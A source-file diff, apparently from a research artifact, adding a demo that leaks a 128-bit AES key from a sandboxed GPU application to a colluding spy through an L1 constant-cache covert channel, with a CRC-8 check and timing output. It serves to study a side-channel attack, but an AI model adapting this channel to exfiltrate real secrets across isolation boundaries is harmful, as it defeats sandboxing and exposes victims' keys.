@@ -1,0 +1,130 @@
+/**
+ * @file
+ * End-to-end exfiltration scenario (the paper's motivating threat):
+ *
+ * A sandboxed application with no network access computes with a secret
+ * 128-bit AES key on the GPU. A trojan routine inside it leaks the key
+ * to a colluding spy application on the same GPU through the fully
+ * optimized L1 covert channel (synchronized, 6 bits/SM, all SMs). A
+ * CRC-8 trailer lets the receiver verify integrity, and the whole key
+ * crosses the air gap in well under a millisecond.
+ *
+ * Run: ./exfiltrate_key [hex-key]
+ */
+
+#include <cstdio>
+#include <cstring>
+#include <string>
+
+#include "common/bitstream.h"
+#include "common/log.h"
+#include "covert/sync/sync_channel.h"
+#include "gpu/arch_params.h"
+
+using namespace gpucc;
+
+namespace
+{
+
+/** CRC-8 (poly 0x07) over a bit vector, MSB first. */
+std::uint8_t
+crc8(const BitVec &bits)
+{
+    std::uint8_t crc = 0;
+    for (std::uint8_t b : bits) {
+        std::uint8_t in = static_cast<std::uint8_t>(
+            ((crc >> 7) ^ (b & 1)) & 1);
+        crc = static_cast<std::uint8_t>(crc << 1);
+        if (in)
+            crc ^= 0x07;
+    }
+    return crc;
+}
+
+BitVec
+hexToBits(const std::string &hex)
+{
+    BitVec bits;
+    for (char c : hex) {
+        int v;
+        if (c >= '0' && c <= '9')
+            v = c - '0';
+        else if (c >= 'a' && c <= 'f')
+            v = c - 'a' + 10;
+        else if (c >= 'A' && c <= 'F')
+            v = c - 'A' + 10;
+        else
+            GPUCC_FATAL("invalid hex digit '%c'", c);
+        for (int i = 3; i >= 0; --i)
+            bits.push_back(static_cast<std::uint8_t>((v >> i) & 1));
+    }
+    return bits;
+}
+
+std::string
+bitsToHex(const BitVec &bits)
+{
+    std::string out;
+    for (std::size_t i = 0; i + 4 <= bits.size(); i += 4) {
+        int v = (bits[i] << 3) | (bits[i + 1] << 2) | (bits[i + 2] << 1) |
+                bits[i + 3];
+        out += "0123456789abcdef"[v];
+    }
+    return out;
+}
+
+} // namespace
+
+int
+main(int argc, char **argv)
+{
+    setVerbose(false);
+    std::string keyHex = argc > 1 ? argv[1]
+                                  : "2b7e151628aed2a6abf7158809cf4f3c";
+    GPUCC_ASSERT(keyHex.size() == 32, "expected a 128-bit key (32 hex "
+                                      "digits)");
+    BitVec key = hexToBits(keyHex);
+
+    std::printf("Scenario: sandboxed app (no network) leaks its AES key "
+                "to a colluding tenant\nthrough the Tesla K40C's L1 "
+                "constant caches.\n\n");
+    std::printf("secret key:     %s\n", keyHex.c_str());
+
+    // Frame: 128 key bits + 8 CRC bits.
+    BitVec frame = key;
+    std::uint8_t crc = crc8(key);
+    for (int i = 7; i >= 0; --i)
+        frame.push_back(static_cast<std::uint8_t>((crc >> i) & 1));
+
+    // Fully optimized channel: synchronized + 6 sets/SM + all SMs.
+    covert::SyncChannelConfig cfg;
+    cfg.dataSetsPerSm = 6;
+    cfg.allSms = true;
+    covert::SyncL1Channel channel(gpu::keplerK40c(), cfg);
+    auto r = channel.transmit(frame);
+
+    BitVec rxKey(r.received.begin(), r.received.begin() + 128);
+    std::uint8_t rxCrc = 0;
+    for (int i = 0; i < 8; ++i) {
+        rxCrc = static_cast<std::uint8_t>(
+            (rxCrc << 1) | (r.received[128 + static_cast<std::size_t>(i)] &
+                            1));
+    }
+
+    std::printf("exfiltrated:    %s\n", bitsToHex(rxKey).c_str());
+    std::printf("CRC-8:          sent 0x%02x, received 0x%02x, computed "
+                "0x%02x -> %s\n",
+                crc, rxCrc, crc8(rxKey),
+                crc8(rxKey) == rxCrc ? "VALID" : "CORRUPT");
+    std::printf("channel:        %s\n", r.channelName.c_str());
+    std::printf("transfer time:  %.1f us for %zu bits\n", r.seconds * 1e6,
+                frame.size());
+    std::printf("bandwidth:      %.2f Mbps, bit error rate %.2f %%\n",
+                r.bandwidthBps / 1e6, 100.0 * r.report.errorRate());
+
+    bool ok = bitsToHex(rxKey) == keyHex && crc8(rxKey) == rxCrc;
+    std::printf("\n%s\n", ok ? "Key exfiltrated intact: the two kernels "
+                               "never shared a byte of memory."
+                             : "Transfer corrupted.");
+    return ok ? 0 : 1;
+}
